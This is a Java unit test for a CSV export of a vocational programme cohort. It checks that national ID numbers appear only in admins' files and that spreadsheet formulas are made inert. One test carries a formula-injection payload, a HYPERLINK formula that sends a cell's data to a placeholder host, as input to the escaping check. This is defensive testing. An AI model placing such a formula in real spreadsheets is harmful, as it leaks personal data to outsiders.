package org.sentrakreasi.vocational.application;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;

class CohortCsvTest {

    private static final String NIK = "3374015705900001";
    private final List<CohortCsv.Row> rows = List.of(new CohortCsv.Row(11, 42, "Siti Aminah, S.Pd", NIK, "GRADUATED",
            LocalDate.of(2025, 1, 6), new BigDecimal("87.5"), true, LocalDate.of(2025, 6, 30), null));

    @Test
    void aCoordinatorsFileHasNoNikColumnAndNoNik() {
        String csv = CohortCsv.write(rows, false);
        assertThat(csv.lines().findFirst()).contains(
                "enrollmentId,beneficiaryId,fullName,status,enrolledOn,attendanceRate,certified,graduatedOn,withdrawnOn");
        assertThat(csv).doesNotContain("nik").doesNotContain(NIK);
        assertThat(csv).contains("11,42,\"Siti Aminah, S.Pd\",GRADUATED,2025-01-06,87.5,true,2025-06-30,");
    }

    @Test
    void anAdminsFileHasTheNik() {
        String csv = CohortCsv.write(rows, true);
        assertThat(csv.lines().findFirst()).hasValueSatisfying(header -> assertThat(header).contains("fullName,nik,status"));
        assertThat(csv).contains(NIK);
    }

    @Test
    void aNameThatBeginsLikeAFormulaStaysText() {
        String formula = "=HYPERLINK(\"http://x.invalid/?\"&D2,\"klik\")";
        String csv = CohortCsv.write(List.of(new CohortCsv.Row(12, 43, formula, NIK, "ENROLLED",
                LocalDate.of(2025, 1, 6), null, false, null, null)), true);
        assertThat(csv).contains("12,43,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&D2,\"\"klik\"\")\",");
        assertThat(List.of("+1", "-1", "@SUM(A1)", "\tx", "\rx")).allSatisfy(value ->
                assertThat(CohortCsv.asText(value)).isEqualTo("'" + value));
        assertThat(CohortCsv.asText("Siti = Aminah")).isEqualTo("Siti = Aminah");
    }

    @Test
    void theAuditNamesTheColumnsExported() {
        assertThat(CohortCsv.columns(false)).doesNotContain("nik").contains("fullName");
        assertThat(CohortCsv.columns(true)).contains("nik");
    }
}
